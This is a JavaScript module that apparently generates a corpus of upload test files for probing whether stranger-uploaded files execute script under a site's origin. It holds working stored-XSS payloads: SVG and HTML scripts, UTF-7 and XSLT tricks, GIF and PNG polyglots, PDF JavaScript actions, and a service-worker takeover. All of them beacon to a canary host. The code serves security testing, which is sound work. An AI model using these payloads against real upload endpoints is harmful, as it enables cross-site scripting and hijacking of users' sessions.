// Files that strangers upload to run scripts with the rights of the site that shows them.

import { png } from './png.mjs';

/**
 * A script that leaves traces where only scripts of the app's origin can leave them (its storage), and where any script can
 * (a request to the canary). It has no character that means something in markup.
 */
const reportTo = (canary) => "(function(){var here=location.href;try{localStorage.setItem('ran '+here,'1')}catch(e){}"
  + `try{document.title='ran'}catch(e){}new Image().src='${canary}/?'+encodeURIComponent(self.origin+' '+here)})()`;

const XHTML = 'xmlns="http://www.w3.org/1999/xhtml"';
const SVG = 'xmlns="http://www.w3.org/2000/svg" width="10" height="10"';

/** A PDF whose opening action is this one. */
function pdf(action) {
  const objects = [
    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    '<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]>>',
  ];
  let text = '%PDF-1.7\n';
  const places = objects.map((object, n) => {
    const place = text.length;
    text += `${n + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = text.length;
  return `${text}xref\n0 4\n0000000000 65535 f \n${places.join('')}trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`;
}

/**
 * `name`: null for one that the server makes up. `type`: what the uploader says, null for nothing. `runs`: whether
 * Chromium runs the script in it where nothing but the media type protects; others may run more.
 *
 * @returns {{ title: string, name: string | null, type: string | null, content: string | Buffer, runs: boolean }[]}
 */
export function corpus(canary) {
  const js = reportTo(canary);
  const html = `<!doctype html><title>x</title><script>${js}</script>`;
  const xhtml = `<html ${XHTML}><body><script>${js}</script></body></html>`;
  const svg = `<svg ${SVG}><script>${js}</script></svg>`;
  const xml = `<?xml version="1.0"?><a><b ${XHTML}><script ${XHTML}>${js}</script></b></a>`;
  const xslt = '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID #REQUIRED>]>'
    + '<d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
    + `<html><body><script>${js}</script></body></html></xsl:template></xsl:stylesheet></d>`;
  const mhtml = `From: a\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`;
  // A comment for JavaScript from the size on, an image of 10795 x 1 for others.
  const gifJs = Buffer.concat([Buffer.from('GIF89a/*\x01\x00\x80\x00\x00', 'latin1'), Buffer.from(`*/=0;${js}`)]);
  const gifHtml = Buffer.concat([Buffer.from('GIF89a\x0a\x00\x0a\x00\x00\x00\x00', 'latin1'), Buffer.from(html)]);
  const pngHtml = Buffer.concat([png(8, 8), Buffer.from(html)]);

  const active = (title, name, type, content) => ({ title, name, type, content, runs: true });
  const inert = (title, name, type, content) => ({ title, name, type, content, runs: false });
  return [
    active('SVG with a script', 'script.svg', 'image/svg+xml', svg),
    active('SVG by its extension alone', 'plain.svg', null, svg),
    active('SVG with a handler', 'handler.svg', 'image/svg+xml', `<svg ${SVG} onload="${js}"/>`),
    active('SVG with HTML inside', 'foreign.svg', 'image/svg+xml',
      `<svg ${SVG}><foreignObject><body ${XHTML}><img src="data:," onerror="${js}"/></body></foreignObject></svg>`),
    active('SVG with a double extension', 'photo.svg.png', 'image/svg+xml', svg),
    active('SVG with parameters of its type', 'parameters.svg', 'Image/SVG+XML; charset=utf-8; x=y', svg),
    inert('SVG under the name of a PNG, without type', 'other.svg.png', null, svg),
    active('HTML', 'page.html', 'text/html', html),
    active('HTML by its extension alone', 'page2.html', null, html),
    active('HTML by its other extension', 'page.htm', null, html),
    active('HTML in capitals', 'PAGE.HTML', 'TEXT/HTML', html),
    active('HTML with a media type for UTF-7', 'utf7.html', 'text/html;charset=utf-7',
      `${html}+ADw-script+AD4-${js}+ADw-/script+AD4-`),
    active('HTML under the name of an image', 'cat.png', 'text/html', html),
    inert('HTML for servers that include files', 'page.shtml', null, html),
    inert('HTML with the media type of an image', 'fake.png', 'image/png', html),
    inert('HTML with an unknown media type of an image', 'fake2', 'image/x-what', html),
    inert('HTML without media type and name', null, null, html),
    inert('HTML as bytes', 'bytes', 'application/octet-stream', html),
    active('HTML with a type that is to be guessed', 'guess', 'application/unknown', html),
    active('XHTML', 'page.xhtml', 'application/xhtml+xml', xhtml),
    active('XML with XHTML inside', 'data.xml', 'text/xml', xml),
    active('XML of an application', 'data2.xml', 'application/xml', xml),
    inert('XML of a feed', 'feed.rss', 'application/x-what+xml', xml),
    active('XML that brings its style sheet', 'style.xml', 'text/xml', xslt),
    inert('MathML with XHTML inside', 'formula.mml', 'application/mathml+xml',
      `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><script ${XHTML}>${js}</script></mtext></math>`),
    inert('GIF that is a script', 'polyglot.gif', 'image/gif', gifJs),
    inert('script that is a GIF', 'polyglot.js', 'text/javascript', gifJs),
    inert('GIF that is HTML', 'page.gif', 'image/gif', gifHtml),
    active('GIF that is HTML and says so', 'page2.gif', 'text/html', gifHtml),
    active('PNG that is HTML and says so', 'page.png', 'text/html', pngHtml),
    inert('text with HTML', 'page.txt', 'text/plain', html),
    inert('JSON with HTML', 'page.json', 'application/json', JSON.stringify({ html })),
    inert('style sheet with HTML', 'page.css', 'text/css', html),
    inert('CSV with HTML', 'page.csv', 'text/csv', html),
    inert('message with HTML', 'page.mhtml', 'message/rfc822', mhtml),
    inert('archive of a page', 'page2.mhtml', 'multipart/related', mhtml),
    inert('PDF with a script', 'script.pdf', 'application/pdf', pdf(`<</S/JavaScript/JS(app.launchURL\\("javascript:${js.replace(/[()]/g, '\\$&')}"\\))>>`)),
    inert('PDF with an address that is a script', 'address.pdf', 'application/pdf', pdf(`<</S/URI/URI(javascript:${js.replace(/[()]/g, '\\$&')})>>`)),
    inert('HTML as a program', 'page.wasm', 'application/wasm', html),
    inert('HTML as a video', 'page.mp4', 'video/mp4', html),
  ];
}

/** A script for a service worker: answers requests for pages with one of its own. */
export const takeOver = (canary) => `self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('fetch', (event) => event.respondWith(
  new Response('<script>${reportTo(canary).replaceAll("'", '"')}</script>', { headers: { 'content-type': 'text/html' } })));`;
